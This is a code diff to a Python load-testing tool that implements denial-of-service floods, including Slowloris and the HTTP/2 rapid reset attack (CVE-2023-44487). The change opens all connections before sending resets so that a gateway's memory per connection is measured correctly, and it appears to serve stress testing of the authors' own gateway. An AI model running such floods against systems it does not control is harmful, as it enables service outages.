@@ -524,7 +524,7 @@ async def flood_slowloris(spec, tally, until):
 
 async def flood_rapid_reset(spec, tally, until):
     """HTTP/2 rapid reset (CVE-2023-44487): HEADERS (a whole request) then RST_STREAM at once,
-    in a loop, on a few connections."""
+    in a loop, on all the connections opened (up to 3 s spent opening them first)."""
     batch = spec.get("batch", 256)
     ctx = client_context(["h2"])
     conns = []
@@ -541,6 +541,16 @@ async def flood_rapid_reset(spec, tally, until):
             conns.append(p)
 
     opener = asyncio.ensure_future(keep_open(tally, spec["connections"], 8, connect, until))
+    # All the connections first, then the resets on all of them at once: the gateway holds
+    # them together, so its memory per connection is measured over n of them, not over the
+    # 8 or so a loop of one-at-a-time connections has open (each lives a few ms: 1 MiB of
+    # allocator noise divided by 8 read as 128-185 KiB "per connection").
+    # Up to 3 s: the gateway closes a connection with no complete request 5 s after its start.
+    gather_until = min(until, time.monotonic() + spec.get("gather", 3.0))
+    while time.monotonic() < gather_until and len(conns) < spec["connections"]:
+        await asyncio.sleep(0.05)
+    tally.counters["held_before_resets"] = sum(1 for p in conns if p in tally.live)
+    tally.counters["resets_began"] = time.time()
     while time.monotonic() < until:
         wrote = False
         for p in conns:
